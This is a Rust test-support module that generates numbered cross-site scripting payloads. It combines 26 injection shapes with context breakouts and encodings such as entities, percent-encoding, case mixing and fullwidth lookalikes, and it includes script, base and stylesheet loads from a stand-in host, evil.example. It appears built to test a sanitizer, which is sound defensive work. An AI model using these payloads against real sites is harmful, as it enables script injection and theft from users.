//! Texts that would run a script on a careless page: shapes, in contexts, in encodings. Two test targets
//! use it.

/// What each one does when it runs; the browser looks for that. `#` is its number.
const DEED: &str = "top.ran=#";

const SHAPES: [&str; 26] = [
    "<script>!</script>",
    "<script src=//evil.example/#></script>",
    "<img src=x onerror=!>",
    "<img/src='x'/onerror='!'>",
    "<svg onload=!>",
    "<svg/onload=!//",
    "<svg><script>!</script></svg>",
    "<svg><a xlink:href=javascript:!>a</a></svg>",
    "<math><mi xlink:href='javascript:!'>a</mi></math>",
    "<iframe srcdoc='<script>!</script>'></iframe>",
    "<iframe src=javascript:!></iframe>",
    "<a href='javascript:!' id=a#>a</a>",
    "<a href='data:text/html,<script>!</script>'>a</a>",
    "<input autofocus onfocus=!>",
    "<details open ontoggle=!>a</details>",
    "<video><source onerror=!></video>",
    "<form action=javascript:!><button>a</button></form>",
    "<button formaction=javascript:!>a</button>",
    "<base href=//evil.example/#/>",
    "<meta http-equiv=refresh content='0;url=javascript:!'>",
    "<style>@import '//evil.example/#'</style>",
    "<object data=javascript:!></object>",
    "<template><img src=x onerror=!></template>",
    "<noscript><p title='</noscript><img src=x onerror=!>'>",
    "x onmouseover=! y=",
    "javascript:!",
];

/// What comes before a shape, to leave what it stands in.
const CONTEXTS: [&str; 8] = [
    "",
    "\">",
    "'>",
    "</textarea>",
    "</title>",
    "-->",
    "</script>",
    "\" ",
];

fn entities(text: &str) -> String {
    let each: Vec<_> = text
        .chars()
        .map(|letter| format!("&#{};", letter as u32))
        .collect();
    each.concat()
}

fn percents(text: &str) -> String {
    let each: Vec<_> = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    each.concat()
}

fn mixed(text: &str) -> String {
    let each = text.chars().enumerate();
    each.map(|(at, letter)| {
        if at % 2 == 0 {
            letter.to_ascii_uppercase()
        } else {
            letter
        }
    })
    .collect()
}

/// Letters that some reader takes for the ones that they look like.
fn lookalikes(text: &str) -> String {
    text.replace('<', "\u{ff1c}")
        .replace('>', "\u{ff1e}")
        .replace('"', "\u{ff02}")
}

fn templates(text: &str) -> String {
    format!("{{{{{text}}}}}${{{text}}}<%={text}%>{{% raw %}}")
}

/// All of them, each with a number of its own.
pub(crate) fn payloads() -> Vec<String> {
    let shaped = SHAPES.iter().flat_map(|shape| {
        let plain = |text: &str| text.to_owned();
        CONTEXTS.map(|context| (format!("{context}{shape}"), plain as fn(&str) -> String))
    });
    let short = SHAPES.iter().filter(|shape| shape.len() < 24);
    let changes: [fn(&str) -> String; 5] = [entities, percents, mixed, lookalikes, templates];
    let encoded = short.flat_map(|shape| changes.map(|change| ((*shape).to_owned(), change)));
    let all = shaped.chain(encoded).enumerate();
    all.map(|(number, (text, change))| {
        change(&text.replace('!', DEED).replace('#', &format!("77{number}")))
    })
    .collect()
}

/// The same, as many at once as fit into so many letters. What one of them opens, the next one closes.
pub(crate) fn batches(longest: usize) -> Vec<String> {
    let mut batches = vec![String::new()];
    for payload in payloads() {
        let last = batches.last_mut().unwrap();
        if last.chars().count() + payload.chars().count() < longest {
            last.push_str(&payload);
        } else {
            batches.push(payload);
        }
    }
    batches
}
